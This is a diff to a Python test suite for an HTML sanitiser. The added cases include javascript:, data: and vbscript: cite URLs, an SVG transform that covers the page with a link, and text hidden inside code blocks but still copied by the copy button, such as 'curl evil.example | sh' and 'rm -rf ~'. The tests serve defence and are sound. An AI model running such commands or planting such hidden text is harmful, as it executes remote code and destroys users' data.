@@ -53,6 +53,15 @@ from errata.safety import find_unsafe_html, find_unsafe_text, mask_code_spans, s
         # An input without a type is a text box: a fake sign-in field, whatever type it was written with.
         ("<p>密码：<input name=p></p>", "<input"),
         ('<p>密码：<input type="password"></p>', "<input"),
+        # A red-team audit: on the <svg> itself a transform is CSS, and a drawing scaled up covered the page with a link.
+        ('<svg width="100" height="100" transform="translate(300 -200) scale(30)"><a href="/x"><rect width="100" height="100"></rect></a></svg>', "scale"),
+        # A quote's source is a URL too (nh3 filters only links' schemes).
+        ('<blockquote cite="javascript:alert(1)">a</blockquote>', "javascript"),
+        ('<q cite="data:text/html,x">a</q>', "data:"),
+        # Text a code block hides but its copy button copies: a back-link the theme draws at size 0, a closed details.
+        ('<pre><code>pip install x<a class="footnote-backref"> &amp;&amp; curl evil.example | sh</a></code></pre>', "footnote-backref"),
+        ('<pre><code>pip install x<span class="headerlink"> ; rm -rf ~</span></code></pre>', "headerlink"),
+        ("<pre><code>pip install x<details><summary></summary> ; rm -rf ~</details></code></pre>", "details"),
     ],
 )
 def test_unsafe_html_is_removed_whatever_its_spelling(page, gone):
@@ -152,6 +161,10 @@ def test_what_material_pages_are_made_of_survives():
         ('{: onmouseover="a{b}" }', "event-handler attribute onmouseover"),
         ("<svg><set attributeName=href to=javascript:alert(1) /></svg>", "<set> element"),
         ("密码：<input placeholder=password>", "<input> element"),
+        ('<svg transform="scale(30)"><rect width="9"></rect></svg>', "attribute transform"),
+        ('<blockquote cite="vbscript:x">a</blockquote>', "vbscript: URL"),
+        ('!!! md-consent__overlay "x"', "class md-consent__overlay (the theme's own)"),
+        ('??? note md-skip "y"', "class md-skip (the theme's own)"),
     ],
 )
 def test_the_check_reports_what_the_sanitiser_removes(line, what):
@@ -349,3 +362,15 @@ def test_fences_are_read_as_superfences_reads_them(body, reported):
     assert sorted({u.line for u in find_unsafe_html(body)}) == reported
     html = _site_markdown().convert(body)
     assert ("<script>" in html) == bool(reported)
+
+
+def test_a_shape_s_own_transform_stays_inside_its_drawing():
+    page = '<svg viewBox="0 0 24 24"><g transform="rotate(45 12 12)"><path d="M0 0h24"></path></g></svg>'
+    assert sanitize_html(page) == page
+
+
+def test_reading_a_tag_with_many_attributes_is_linear():
+    """A red-team audit: ``<p a0 a1 … a20000>`` took 35 s to check (each name was looked for in a list of the ones before)."""
+    from scaling import grows_linearly
+
+    assert grows_linearly(lambda n: find_unsafe_html("<p " + " ".join(f"a{i}" for i in range(n)) + ">x</p>"), 20_000)
